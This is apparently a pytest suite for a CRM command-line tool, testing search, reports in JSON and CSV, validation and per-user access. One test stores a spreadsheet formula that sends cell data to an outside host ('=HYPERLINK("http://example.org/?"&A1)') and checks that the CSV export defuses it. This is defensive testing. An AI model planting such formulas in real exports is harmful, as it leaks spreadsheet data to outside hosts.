"""`crm-ops search` and `crm-ops report`: figures for a person, JSON and CSV for programs."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal

import pytest
import sqlalchemy as sa

from crm_ops.base import database, sql
from tests.cli.conftest import Ended

Call = Callable[..., Ended]


def counted(engine: sa.Engine, where: str) -> int:
    with database.transaction(engine) as connection:
        found = sql.run(
            connection,
            "SELECT count(*) FROM crm.lead WHERE company_id = 1 AND deleted_at IS NULL"
            f" AND {where}",
        )
        return int(found.scalar_one())


def test_a_search_prints_rows_total_and_facets(crm_ops: Call, connected: sa.Engine) -> None:
    asked = ("search", "lead", "--tenant", 1, "--filter", "status=new", "--limit", 3)

    data = crm_ops(*asked, "--json")

    assert (data.code, data.err) == (0, "")
    assert list(data.data) == ["rows", "total", "facets", "next", "as_of", "source"]
    assert data.data["total"] == counted(connected, "status = 'new'")
    assert {row["status"] for row in data.data["rows"]} == {"new"}
    assert len(data.data["rows"]) == 3
    second = crm_ops(*asked, "--json", "--after", data.data["next"]).data
    assert not {row["id"] for row in second["rows"]} & {row["id"] for row in data.data["rows"]}
    told = crm_ops(*asked)
    assert told.code == 0
    assert f"{data.data['total']:,} in all; counts from sql" in told.err
    assert "(none)" in told.out
    owners = len(data.data["facets"]["owner"]["buckets"])
    assert f"({owners - 12} more, all with --json)" in told.out


def test_the_same_without_redis(
    crm_ops: Call, connected: sa.Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert crm_ops("run", "--task", "precompute_facets").code == 0
    asked = ("search", "lead", "--tenant", 1, "--json")
    first = crm_ops(*asked).data
    monkeypatch.setenv("CRM_OPS_REDIS_URL", "redis://127.0.0.1:1/0")
    second = crm_ops(*asked).data
    monkeypatch.delenv("CRM_OPS_REDIS_URL")
    third = crm_ops(*asked).data

    assert [each["source"] for each in (first, second, third)] == ["redis", "table", "table"]
    assert first["total"] == counted(connected, "true")
    assert first["facets"] == second["facets"] == third["facets"]


def test_explain_shows_what_was_asked_where(crm_ops: Call, connected: sa.Engine) -> None:
    told = crm_ops("search", "lead", "--tenant", 1, "--filter", "score=25..75", "--explain")
    assert "GROUPING SETS" in told.out
    assert "'filter_0_0_low': '25'" in told.out
    steps = crm_ops("search", "lead", "--tenant", 1, "--explain", "--json").data["steps"]
    assert [step["where"] for step in steps] == ["redis", "postgres", "postgres"]
    assert all(step["took_ms"] >= 0 for step in steps)


def test_a_facet_alone_asks_for_rows_without_a_value(crm_ops: Call, connected: sa.Engine) -> None:
    data = crm_ops("search", "lead", "--tenant", 1, "--filter", "owner", "--json").data
    assert data["total"] == counted(connected, "owner_id IS NULL")


@pytest.mark.parametrize(
    "wrong",
    [
        ("search", "leads", "--tenant", "1"),
        ("search", "lead"),
        ("search", "lead", "--tenant", "1", "--filter", "nothing=1"),
        ("search", "lead", "--tenant", "1", "--limit", "1000000"),
        ("search", "lead", "--tenant", "1", "--after", "x"),
        ("report", "nothing", "--tenant", "1"),
        ("report", "leads_by_status", "--tenant", "1", "--by", "color"),
        ("report", "leads_by_status", "--tenant", "1", "--json", "--csv"),
    ],
)
def test_what_cannot_be_asked_ends_with_2_and_a_message(
    crm_ops: Call, connected: sa.Engine, wrong: tuple[str, ...]
) -> None:
    ended = crm_ops(*wrong)
    assert (ended.code, ended.out) == (2, "")
    assert ended.err.startswith("crm-ops: ")


def test_a_report_prints_a_table_json_and_csv(crm_ops: Call, connected: sa.Engine) -> None:
    asked = ("report", "revenue_by_close_month", "--tenant", 1, "--by", "close_month:year")
    with database.transaction(connected) as connection:
        rows = sql.run(
            connection,
            "SELECT to_char(close_date, 'YYYY') AS year, currency, count(*) AS deals,"
            " sum(amount) AS revenue FROM crm.deal WHERE company_id = 1 AND deleted_at IS NULL"
            " GROUP BY 1, 2",
        )
        expected = {(row.year, row.currency): (row.deals, row.revenue) for row in rows}

    data = crm_ops(*asked, "--json").data
    lines = list(csv.DictReader(io.StringIO(crm_ops(*asked, "--csv").out)))

    assert {
        (row["close_month:year"], row["currency"]): (
            row["deals"],
            None if row["revenue"] is None else Decimal(row["revenue"]),
        )
        for row in data["rows"]
    } == expected
    assert [(row["currency"], row["revenue"]) for row in lines] == [
        (row["currency"] or "", row["revenue"] or "") for row in data["rows"]
    ]
    assert "from sql, as of" in crm_ops(*asked).err
    assert list(lines[0]) == ["close_month:year", "currency", "deals", "revenue"]
    owners = list(
        csv.DictReader(io.StringIO(crm_ops("report", "leads_by_owner", "--tenant", 1, "--csv").out))
    )
    assert list(owners[0]) == ["owner", "owner label", "leads"]
    total = crm_ops("report", "leads_by_status", "--tenant", 1, "--by", "nothing", "--json").data
    assert total["rows"] == [{"leads": counted(connected, "true")}]


def test_a_csv_holds_money_to_the_last_digit_and_nothing_that_a_spreadsheet_would_run(
    crm_ops: Call, connected: sa.Engine
) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1)'
    with database.transaction(connected) as connection:
        sql.run(
            connection,
            "INSERT INTO crm.lead (company_id, name, source) VALUES (1, 'x', %(text)s),"
            " (1, 'y', '-1+1'), (1, 'z', 'a=b')",
            text=formula,
        )
        sql.run(
            connection,
            "INSERT INTO crm.deal (company_id, name, stage, amount, currency)"
            " VALUES (1, 'refund', '@home', -1234567890123.10, 'EUR')",
        )

    def read(*asked: object) -> list[dict[str, str]]:
        printed = crm_ops("report", *asked, "--tenant", 1, "--csv").out
        return list(csv.DictReader(io.StringIO(printed)))

    leads = {row["source"]: row["leads"] for row in read("leads_by_source")}
    assert {f"'{formula}": "1", "'-1+1": "1", "a=b": "1"}.items() <= leads.items()
    (refund,) = read("deals_by_stage", "--filter", "stage=@home")
    assert (refund["stage"], refund["revenue"]) == ("'@home", "-1234567890123.10")
    asked = ("report", "deals_by_stage", "--tenant", 1, "--filter", "stage=@home", "--json")
    (line,) = crm_ops(*asked).data["rows"]
    assert (line["stage"], line["currency"]) == ("@home", "EUR")
    assert line["revenue"] == line["smallest"] == "-1234567890123.10"


def test_the_indexes_of_searches_are_printed_and_can_be_run_twice(
    crm_ops: Call, connected: sa.Engine
) -> None:
    printed = crm_ops("catalog", "indexes").out.splitlines()
    assert any("USING gin" in line for line in printed)
    for _ in range(2):
        with database.autocommit(connected) as connection:
            for line in printed:
                sql.run(connection, line)


def test_a_user_is_shown_and_told_the_number_of_what_they_may_see(
    crm_ops: Call, connected: sa.Engine
) -> None:
    refused = crm_ops("search", "lead", "--tenant", 1, "--as-user", 1)
    assert refused.code != 0
    assert "catalog apply" in refused.err
    assert crm_ops("catalog", "apply").code == 0

    data = crm_ops("search", "lead", "--tenant", 1, "--as-user", 999_999, "--json").data

    assert (data["total"], data["rows"], data["source"]) == (0, [], "sql")
